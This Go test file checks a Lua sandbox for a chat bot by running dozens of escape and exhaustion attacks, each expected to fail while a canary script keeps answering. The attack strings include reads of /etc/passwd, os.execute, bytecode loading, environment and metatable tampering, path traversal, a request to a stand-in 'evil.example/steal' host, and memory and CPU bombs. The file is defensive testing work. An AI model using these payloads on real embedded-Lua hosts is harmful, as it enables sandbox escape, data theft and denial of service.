package host

import (
	"context"
	"encoding/json"
	"fmt"
	"log/slog"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/luabot/luabot/gateway"
	"github.com/luabot/luabot/kv"
)

// Each attack runs in a handler of one script, next to a canary script in
// the same process. An attack that works sends "ESCAPED"; every attack
// must fail, and the canary must keep answering afterwards.
var attacks = []struct{ name, code string }{
	{"io.open", `local f = io.open("/etc/passwd") qq.send("100", "ESCAPED")`},
	{"io via _G", `local f = _G["io"].open("/etc/passwd") qq.send("100", "ESCAPED")`},
	{"os.execute", `os.execute("touch /tmp/luabot-pwned") qq.send("100", "ESCAPED")`},
	{"os.getenv", `if os.getenv("HOME") then qq.send("100", "ESCAPED") end`},
	{"os.exit", `os.exit(1) qq.send("100", "ESCAPED")`},
	{"os.remove", `os.remove("/tmp/x") qq.send("100", "ESCAPED")`},
	{"os.rename", `os.rename("/tmp/x", "/tmp/y") qq.send("100", "ESCAPED")`},
	{"debug.getregistry", `local r = debug.getregistry() qq.send("100", "ESCAPED")`},
	{"dofile", `dofile("/etc/passwd") qq.send("100", "ESCAPED")`},
	{"loadfile", `local f = loadfile("/etc/passwd") qq.send("100", "ESCAPED")`},
	{"loadstring reaching io", `local f = loadstring("return io, os.execute, debug, getfenv") if f and (f()) then qq.send("100", "ESCAPED") end error("refused")`},
	{"load with a table env reaching io", `local f = load("return io or os.execute", "x", "t", {}) if f and f() then qq.send("100", "ESCAPED") end error("refused")`},
	{"bytecode through loadstring", `local f = loadstring("\27LuaQ\0\1\4\8\4\8\0") if f then qq.send("100", "ESCAPED") end error("refused")`},
	{"bytecode through a load reader", `local n = 0 local f = load(function() n = n + 1 if n == 1 then return "\27LuaQ" end end) if f then qq.send("100", "ESCAPED") end error("refused")`},
	{"load of an endless loop", `local f = loadstring("while true do end") f() qq.send("100", "ESCAPED")`},
	{"string.dump", `local b = string.dump(print) qq.send("100", "ESCAPED")`},
	{"getfenv", `local g = getfenv(print) if g.os and g.os.execute or getfenv(0).io then qq.send("100", "ESCAPED") end error("refused")`},
	{"setfenv of the thread", `setfenv(0, {}) qq.send("100", "ESCAPED")`},
	{"setfenv", `setfenv(1, {}) qq.send("100", "ESCAPED")`},
	{"require parent", `require("../secret") qq.send("100", "ESCAPED")`},
	{"require absolute", `require("/etc/passwd") qq.send("100", "ESCAPED")`},
	{"require package.loadlib", `package.loadlib("x", "y") qq.send("100", "ESCAPED")`},
	{"collectgarbage stop", `collectgarbage("stop") qq.send("100", "ESCAPED")`},
	{"newproxy", `newproxy(true) qq.send("100", "ESCAPED")`},
	{"event metatable", `local mt = getmetatable(ev) if type(mt) == "table" then qq.send("100", "ESCAPED") end setmetatable(ev, {}) qq.send("100", "ESCAPED")`},
	{"json.null metatable", `local mt = getmetatable(json.null) if type(mt) == "table" then qq.send("100", "ESCAPED") end error("refused")`},
	{"string metatable", `getmetatable("").__index.upper = function() return "pwned" end error("poisoned my own strings")`},
	{"setmetatable on a string", `setmetatable("", {__index = {upper = function() return "pwned" end}}) error("tried")`},
	{"_G tampering", `rawset(_G, "qq", nil) _G.kv = nil error("broke my own globals")`},
	{"resume the handler", `local ok = coroutine.resume(coroutine.running(), "fake") if ok then qq.send("100", "ESCAPED") end error("refused")`},
	{"infinite loop in pcall", `pcall(function() while true do end end) qq.send("100", "ESCAPED")`},
	{"infinite loop in xpcall", `xpcall(function() while true do end end, function() while true do end end) qq.send("100", "ESCAPED")`},
	{"coroutine that never yields", `coroutine.wrap(function() while true do end end)() qq.send("100", "ESCAPED")`},
	{"deep recursion", `local function f(n) return 1 + f(n + 1) end f(1) qq.send("100", "ESCAPED")`},
	{"recursive metatables", `local t = {} setmetatable(t, {__index = t}) local x = t.missing qq.send("100", "ESCAPED")`},
	{"__index loop via functions", `local t = setmetatable({}, {}) getmetatable(t).__index = function(s, k) return s[k] end local x = t.y qq.send("100", "ESCAPED")`},
	{"string.rep bomb", `local s = string.rep("x", 2^31) qq.send("100", "ESCAPED")`},
	{"string.format bomb", `local s = string.format("%999999999d", 1) qq.send("100", "ESCAPED")`},
	{"table.concat bomb", `local t = {} for i = 1, 20 do t[i] = string.rep("x", 2^20) end local s = table.concat(t) qq.send("100", "ESCAPED")`},
	{"pattern bomb", `string.find(string.rep("a", 40) .. "b", string.rep("a*", 40) .. "c") qq.send("100", "ESCAPED")`},
	{"gsub bomb", `local s = string.rep("a", 2^20) s = s:gsub("a", string.rep("b", 100)) qq.send("100", "ESCAPED")`},
	{"table growth bomb", `local t = {} while true do t[#t + 1] = {1, 2, 3, 4, 5, 6, 7, 8} end`},
	{"concat bomb", `local s = "x" while true do s = s .. s .. "y" end`},
	{"undeclared global hoard", `hoard = {} for i = 1, 1e7 do hoard[i] = "member " .. i end qq.send("100", "ESCAPED")`},
	{"unpack bomb", `local t = {} local x = {unpack(t, 1, 1e8)} qq.send("100", "ESCAPED")`},
	{"json depth bomb", `local v = json.decode(string.rep("[", 100000)) if v then qq.send("100", "ESCAPED") end error("refused")`},
	{"kv namespace escape", `kv.open("../other").set("k", 1) qq.send("100", "ESCAPED")`},
	{"qq.request to another host", `qq.request("GET", "http://evil.example/steal") qq.send("100", "ESCAPED")`},
	{"qq.request path traversal", `qq.request("GET", "/../../etc/passwd") qq.send("100", "ESCAPED")`},
	{"string hoard bomb", `local t = {} for i = 1, 1e7 do t[i] = "member " .. i end qq.send("100", "ESCAPED")`},
	{"yield to the host", `coroutine.yield("fake wait") qq.send("100", "ESCAPED")`},
}

const canarySrc = `on("message", function(ev)
  if ev.text == "ping" then qq.send("100", "pong " .. ("abc"):upper()) end
end)`

func TestSandbox_Attacks(t *testing.T) {
	if len(attacks) < 30 {
		t.Fatalf("only %d attacks", len(attacks))
	}
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			os.WriteFile(filepath.Join(filepath.Dir(t.TempDir()), "secret.lua"), []byte(`return "outside"`), 0o644)
			// Every endless loop runs until the CPU limit stops it: a small
			// one proves the same in less time (eight of them: 100 ms more
			// would cost the package's sequential tests 0.8 s).
			runAttack(t, a.code, Limits{CPU: 100 * time.Millisecond, Memory: 32 << 20})
		})
	}
	if _, err := os.Stat("/tmp/luabot-pwned"); err == nil {
		t.Fatal("os.execute ran")
	}
}

// runAttack runs code in a handler of an attacker script (with the given
// limits) next to a canary script, fails the test if the attack sent
// ESCAPED or the canary stopped answering, and returns how the attack
// ended (the log line of the failure) and every log line before it.
func runAttack(t *testing.T, code string, limits Limits) (ended string, before []string) {
	t.Helper()
	dir := t.TempDir()
	store, err := kv.Open(kv.Config{Path: filepath.Join(dir, "k.db")})
	if err != nil {
		t.Fatal(err)
	}
	defer store.Close()
	api := &fakeAPI{calls: make(chan apiCall, 64)}
	logs := newLogSink()
	deps := scriptDeps{api: api, store: store, logger: slog.New(logs), limits: limits,
		// Check what the script keeps often: the test waits on that check.
		estimateEvery: testEstimateEvery}
	attacker, err := loadScript(writeScript(t, dir, "attacker.lua",
		"on(\"message\", function(ev)\n  if ev.text ~= \"attack\" then return end\n  "+code+"\nend)"), deps)
	if err != nil {
		t.Fatal(err)
	}
	canary, err := loadScript(writeScript(t, dir, "canary.lua", canarySrc), deps)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{}, 3)
	for _, s := range []*script{attacker, canary} {
		// A short drain: handlers still parked when the test ends are cut
		// off instead of waited for (nothing here depends on the drain).
		go func() { s.run(ctx, 10*time.Millisecond); done <- struct{}{} }()
	}
	go func() { watchMemory(ctx, func() []*script { return []*script{attacker, canary} }); done <- struct{}{} }()
	defer func() {
		cancel()
		for range 3 {
			<-done
		}
	}()

	event := func(text string) gateway.Event {
		return gateway.Event{Type: "AT_MESSAGE_CREATE", ID: "AT_MESSAGE_CREATE:" + text,
			Data: json.RawMessage(`{"id":"m-` + text + `","channel_id":"100","content":"<@!1> ` + text + `"}`)}
	}
	attacker.deliver(event("attack"))
	// The attack has run when the attacker logged its failure, or
	// finished; either way it must not have sent ESCAPED.
	ended, before = waitAttackOver(t, logs, attacker)
	canary.deliver(event("ping"))
	deadline := time.After(10 * time.Second)
	for {
		select {
		case c := <-api.calls:
			content, _ := c.Body["content"].(string)
			if strings.Contains(content, "ESCAPED") {
				t.Fatalf("attack succeeded")
			}
			if c.Method != "POST" {
				t.Fatalf("attack reached the API: %s %s", c.Method, c.Path)
			}
			if content == "pong ABC" {
				return ended, before
			}
			t.Fatalf("unexpected message %q", content)
		case <-deadline:
			t.Fatal("the canary stopped answering")
		}
	}
}

// waitAttackOver waits until the attacker's handler has failed, been
// killed or got its script stopped: every attack ends in one of those.
func waitAttackOver(t *testing.T, logs *logSink, s *script) (ended string, before []string) {
	t.Helper()
	deadline := time.After(10 * time.Second)
	for {
		select {
		case r := <-logs.records:
			text := recordText(r)
			if strings.Contains(text, "handler failed") || strings.Contains(text, "handler killed") ||
				strings.Contains(text, "script stopped") {
				t.Log(firstBytes(text, 500))
				return text, before
			}
			before = append(before, text)
		case <-deadline:
			t.Fatal("the attack neither failed nor was stopped within 10 s")
		}
	}
}

func firstBytes(s string, n int) string {
	if len(s) > n {
		return s[:n] + "…"
	}
	return s
}

// Attacks on builtins that build a result or walk script data in one Go
// call (issue 13 items 6-8, issue 22 item 3): each must end in an error the
// attacker's own pcall catches, found before Go allocates the result. The
// attacker runs with a 64 MiB memory limit, so a builtin that allocates its
// result first gets the script stopped by the watchdog instead, and the
// test fails. The CPU limit is generous because copying 16 MiB on a loaded
// machine takes a good part of a second. (Sizes are kept such that an unbounded builtin allocates
// hundreds of MiB, not gigabytes.)
var caughtAttacks = []struct{ name, code, want string }{
	{"format of two 10 MiB strings",
		`local big = string.rep("z", 10*1024*1024) return string.format("%s%s", big, big)`, "string.format: result would exceed"},
	{"format of many large %s",
		`local big = string.rep("z", 16*1024*1024 - 1) return string.format(string.rep("%s", 200), big, big, big, big, big, big, big, big, big, big)`,
		"string.format: result would exceed"},
	{"format with Go argument indexes",
		`return string.format(string.rep("%[1]s", 200), string.rep("z", 1024*1024))`, "invalid option"},
	{"format with a * width",
		`return string.format("%*d", 1e9, 1)`, "invalid option"},
	{"gsub repeating a 1 MiB match 100 times",
		`local s = string.rep("a", 1024*1024) return s:gsub("^.*$", string.rep("%0", 100))`, "string.gsub: result would exceed"},
	{"gsub function returning large strings",
		`local big = string.rep("b", 4*1024*1024) return ("aaaaaaaa"):gsub("a", function() return big end)`, "string.gsub: result would exceed"},
	{"concat of two 10 MiB strings",
		`local big = string.rep("z", 10*1024*1024) return big .. big`, "string concatenation: result would exceed"},
	{"concat of many operands",
		`local b = string.rep("z", 8*1024*1024) return b .. b .. b .. b .. b .. b .. b .. b .. b .. b`, "string concatenation: result would exceed"},
	{"concat doubling",
		`local s = "x" while true do s = s .. s end`, "string concatenation: result would exceed"},
	{"table.concat with a huge range",
		`return table.concat({}, "", 1, 16000000)`, "invalid value (at index 1)"},
	{"json.encode of shared sub-tables",
		`local t = {"leaf"} for i = 1, 22 do t = {t, t} end return json.encode(t) or error(select(2, json.encode(t)))`,
		"json encode: result exceeds"},
	{"json.encode of large strings",
		`local big, t = string.rep("z", 15*1024*1024), {} for i = 1, 10 do t[i] = big end local s, err = json.encode(t) return s or error(err)`,
		"json encode: result exceeds"},
	{"json.encode 50 000 deep",
		`local t = {} local cur = t for i = 1, 50000 do cur[1] = {} cur = cur[1] end local s, err = json.encode(t) return s or error(err)`,
		"nesting deeper than"},
	{"json.decode building a million tables",
		`local v, err = json.decode("[" .. string.rep("[],", 1000000) .. "[]]") return v or error(err)`,
		"json decode: the document would take more memory"},
	{"kv.set of shared sub-tables",
		`local t = {"leaf"} for i = 1, 22 do t = {t, t} end return kv.set("k", t)`, "value is over the"},
	{"ev:reply body of shared sub-tables",
		`local t = {"leaf"} for i = 1, 22 do t = {t, t} end return ev:reply({content = "x", embed = t})`, "json encode: result exceeds"},
	{"qq.request body of large strings",
		`local big, t = string.rep("z", 15*1024*1024), {} for i = 1, 10 do t[i] = big end return qq.request("POST", "/x", {list = t})`,
		"json encode: result exceeds"},
	{"qq.send to a 15 MiB id",
		`return qq.send(string.rep("1", 15*1024*1024), "hi")`, "ids are at most"},
	{"qq.request with a huge query",
		`local big = string.rep("&", 15*1024*1024) return qq.request("GET", "/x", nil, {a = big, b = big})`, "byte limit"},
	{"qq.react with a 15 MiB emoji id",
		`return qq.react("1", "2", {type = 1, id = string.rep("x", 15*1024*1024)})`, "ids are at most"},
	{"ev:reply with 15 MiB of control characters",
		`return ev:reply(string.rep("\1", 15*1024*1024))`, "message content over"},
	{"command with a 15 MiB usage",
		`command("x [a=" .. string.rep("z", 15*1024*1024) .. "]", function() end)`, "a usage string of"},
	{"a million commands",
		`for i = 1, 1000000 do command("c" .. i, function() end) end`, "at most 1000 commands"},
	{"a sparse array index",
		`local t = {} t[60000000] = 1 t[2^31] = 2 error("assigned " .. t[60000000] .. t[2^31], 0)`, "assigned 12"},
	{"os.date with a huge format",
		`return os.date(string.rep("%c", 8*1024*1024 - 1))`, "os.date: format of"},
	{"http query of large strings",
		`local big, q = string.rep("&", 15*1024*1024), {} for i = 1, 10 do q["k" .. i] = big end return http.get("https://x.example/", {query = q})`,
		"query of more than"},
	{"http headers of large strings",
		`local big, h = string.rep("z", 15*1024*1024), {} for i = 1, 10 do h["X-K" .. i] = big end return http.get("https://x.example/", {headers = h})`,
		"headers of more than"},
	{"%q that doubles a 9 MiB text",
		`local s = string.rep("\n", 9*1024*1024) return string.format("%q", s)`, "result would exceed"},
}

var buildAttackLimits = Limits{CPU: 5 * time.Second, Memory: 64 << 20}

func TestSandbox_BuildAttacksAreCaught(t *testing.T) {
	for _, a := range caughtAttacks {
		t.Run(a.name, func(t *testing.T) {
			code := `local ok, err = pcall(function() ` + a.code + ` end)
  if ok then qq.send("100", "ESCAPED") end
  error("caught: " .. tostring(err), 0)`
			ended, _ := runAttack(t, code, buildAttackLimits)
			if !strings.Contains(ended, "handler failed") || !strings.Contains(ended, "caught: ") ||
				!strings.Contains(ended, a.want) {
				t.Fatalf("the attack ended %q, want a failure the script caught, naming %q", firstBytes(ended, 300), a.want)
			}
		})
	}
}

// A log line is cut at 64 KiB and says how much was dropped.
func TestSandbox_LogLineCapped(t *testing.T) {
	code := `local big = string.rep("z", 15*1024*1024)
  log.info(big, big, big, big, big)
  error("logged", 0)`
	_, before := runAttack(t, code, buildAttackLimits)
	for _, line := range before {
		if strings.Contains(line, "zzzz") {
			if len(line) > 70<<10 {
				t.Fatalf("log line of %d bytes", len(line))
			}
			if !strings.Contains(line, "bytes dropped]") {
				t.Fatalf("no dropped marker in %q", firstBytes(line[len(line)-200:], 200))
			}
			return
		}
	}
	t.Fatal("the line was not logged")
}

// A pattern search on a 16 MiB text stays within the step budget for
// billions of steps; the handler's CPU budget stops it instead (issue 22
// item 4): the handler is killed within its limit, not after half a minute.
func TestSandbox_PatternSearchStopsAtTheCPULimit(t *testing.T) {
	code := `local s = string.rep("a", 16*1024*1024 - 1)
  local started = os.clock()
  pcall(string.find, s, ".-b")
  qq.send("100", "ESCAPED after " .. (os.clock() - started))`
	start := time.Now()
	ended, _ := runAttack(t, code, Limits{CPU: 500 * time.Millisecond, Memory: 64 << 20})
	if !strings.Contains(ended, "handler killed") || !strings.Contains(ended, "CPU budget") {
		t.Fatalf("ended %q", ended)
	}
	if took := time.Since(start); took > 8*time.Second {
		t.Fatalf("took %s", took)
	}
}

// error() with a 15 MiB message is logged as a short line.
func TestSandbox_HugeErrorMessageCut(t *testing.T) {
	ended, _ := runAttack(t, `error(string.rep("x", 15*1024*1024))`, buildAttackLimits)
	if len(ended) > 8<<10 || !strings.Contains(ended, "bytes dropped]") {
		t.Fatalf("failure logged as %d bytes: %q", len(ended), firstBytes(ended, 200))
	}
}

// A top level that fills memory fails to load, within the script's memory
// limit, instead of growing the heap for the whole load budget.
func TestSandbox_TopLevelMemoryBounded(t *testing.T) {
	dir := t.TempDir()
	store, err := kv.Open(kv.Config{Path: filepath.Join(dir, "k.db")})
	if err != nil {
		t.Fatal(err)
	}
	defer store.Close()
	before := heapBytes()
	s, err := loadScript(writeScript(t, dir, "hog.lua", `local t = {} for i = 1, 4e6 do t[i] = {i} end`),
		scriptDeps{api: &fakeAPI{}, store: store, logger: slog.New(slog.DiscardHandler), limits: Limits{Memory: 32 << 20}})
	grew := heapBytes() - before
	if err == nil {
		s.L.Close()
		t.Fatalf("loaded; the heap grew %d MiB", grew>>20)
	}
	if !strings.Contains(err.Error(), "top level allocated more than the script's 32 MiB memory limit") {
		t.Fatalf("err = %v", err)
	}
	if grew > 128<<20 {
		t.Fatalf("the heap grew %d MiB before the load was stopped", grew>>20)
	}
}

// A top level stopped by the load budget or the memory limit names the
// line it was running.
func TestSandbox_StoppedTopLevelNamesItsLine(t *testing.T) {
	dir := t.TempDir()
	store, err := kv.Open(kv.Config{Path: filepath.Join(dir, "k.db")})
	if err != nil {
		t.Fatal(err)
	}
	defer store.Close()
	for name, src := range map[string]string{
		"cpu":    "local n = 0\nwhile true do n = n + 1 end",
		"memory": "local t = {}\nfor i = 1, 1e8 do t[i] = {i} end",
	} {
		t.Run(name, func(t *testing.T) {
			path := writeScript(t, dir, name+".lua", src)
			_, err := loadScript(path, scriptDeps{api: &fakeAPI{}, store: store, logger: slog.New(slog.DiscardHandler),
				limits: Limits{Memory: 32 << 20}, loadBudget: 300 * time.Millisecond})
			if err == nil || !strings.Contains(err.Error(), name+".lua:2: top level") {
				t.Fatalf("err = %v, want the line of the loop (%s.lua:2)", err, name)
			}
		})
	}
}

// A handler stopped by the CPU or the memory limit is logged with the line
// it was running, so that its author finds the loop.
func TestSandbox_StoppedRunNamesItsLine(t *testing.T) {
	for name, code := range map[string]string{
		"cpu":    "local n = 0\n  while true do n = n + 1 end",
		"memory": "local t = {}\n  for i = 1, 1e8 do t[i] = {i} end",
	} {
		t.Run(name, func(t *testing.T) {
			ended, _ := runAttack(t, code, Limits{CPU: 300 * time.Millisecond, Memory: 32 << 20})
			if !strings.Contains(ended, "attacker.lua:4)") {
				t.Fatalf("ended %q, want the line of the loop (attacker.lua:4)", firstBytes(ended, 300))
			}
		})
	}
}

// pcall nested without end fails with an error the script's own pcall
// returns, as in Lua 5.1, instead of making coroutines until the memory
// limit stops the whole script.
func TestSandbox_NestedPcallIsBounded(t *testing.T) {
	ended, _ := runAttack(t, `local d, err = 0, nil
  local function f(n) d = n local ok, e = pcall(f, n + 1) err = err or e end
  f(1)
  error("returned at " .. d .. ": " .. tostring(err), 0)`, Limits{CPU: 5 * time.Second, Memory: 32 << 20})
	if !strings.Contains(ended, "handler failed") || !strings.Contains(ended, "returned at 201: stack overflow") {
		t.Fatalf("ended %q, want the handler to go on after pcall refused the 201st level", firstBytes(ended, 300))
	}
}

// runWatched loads src as script name with a kv store and a fake API,
// runs it with the memory watchdog beside it, and stops both when the test
// ends.
func runWatched(t *testing.T, name, src string, limits Limits) (*script, *logSink, *fakeAPI) {
	t.Helper()
	dir := t.TempDir()
	store, err := kv.Open(kv.Config{Path: filepath.Join(dir, "k.db")})
	if err != nil {
		t.Fatal(err)
	}
	logs := newLogSink()
	api := &fakeAPI{calls: make(chan apiCall, 64)}
	s, err := loadScript(writeScript(t, dir, name, src), scriptDeps{api: api, store: store, logger: slog.New(logs),
		limits: limits, estimateEvery: testEstimateEvery})
	if err != nil {
		store.Close()
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{}, 2)
	go func() { s.run(ctx, 10*time.Millisecond); done <- struct{}{} }()
	go func() { watchMemory(ctx, func() []*script { return []*script{s} }); done <- struct{}{} }()
	t.Cleanup(func() {
		cancel()
		<-done
		<-done
		store.Close()
	})
	return s, logs, api
}

// A handler killed by the CPU limit inside pcall leaves pcall's
// bookkeeping of its coroutines behind; what is left must not add up to
// the script's memory limit over many kills.
func TestSandbox_KillsInsidePcallDoNotAccumulate(t *testing.T) {
	s, logs, api := runWatched(t, "looper.lua", `on("message", function(ev)
  if ev.text == "done" then return qq.send("100", "survived") end
  pcall(function() while true do end end)
end)`, Limits{CPU: 10 * time.Millisecond, Memory: 1 << 20})
	event := func(i int, text string) gateway.Event {
		id := fmt.Sprint(i)
		return gateway.Event{Type: "AT_MESSAGE_CREATE", ID: "AT_MESSAGE_CREATE:" + id,
			Data: json.RawMessage(`{"id":"m-` + id + `","channel_id":"100","content":"<@!1> ` + text + `"}`)}
	}
	const kills = 100
	for i := range kills {
		s.deliver(event(i, "loop"))
	}
	s.deliver(event(kills, "done"))
	deadline := time.After(30 * time.Second)
	for {
		select {
		case r := <-logs.records:
			if text := recordText(r); strings.Contains(text, "script stopped") {
				t.Fatalf("after CPU kills inside pcall: %s", text)
			}
		case c := <-api.calls:
			if c.Body["content"] == "survived" {
				return
			}
		case <-deadline:
			t.Fatal("the script neither stopped nor handled the last event within 30 s")
		}
	}
}

// kv writes a handler buffers live in Go until it ends; handlers parked
// with large buffers count against what the script keeps between events,
// or each could keep just under the per-run limit and together fill the
// process's memory.
func TestSandbox_ParkedKVBuffersCount(t *testing.T) {
	s, logs, _ := runWatched(t, "hoarder.lua", `local n = 0
on("message", function(ev)
  n = n + 1
  local big = string.rep("x", 1024 * 1024 - 100)
  for i = 1, 12 do kv.set("k" .. n .. "_" .. i, big) end
  sleep(3600)
end)`, Limits{CPU: 5 * time.Second, Memory: 32 << 20})
	for i := range 4 { // 48 MiB buffered by 4 handlers of 12 MiB each
		id := fmt.Sprint(i)
		s.deliver(gateway.Event{Type: "AT_MESSAGE_CREATE", ID: "AT_MESSAGE_CREATE:" + id,
			Data: json.RawMessage(`{"id":"m-` + id + `","channel_id":"100","content":"<@!1> hoard"}`)})
	}
	deadline := time.After(10 * time.Second)
	for {
		select {
		case r := <-logs.records:
			if text := recordText(r); strings.Contains(text, "script stopped") {
				if !strings.Contains(text, "between events") {
					t.Fatalf("stopped for %s", text)
				}
				return
			}
		case <-deadline:
			t.Fatal("4 handlers parked with 12 MiB of buffered kv writes each, and the script with a 32 MiB limit was not stopped")
		}
	}
}
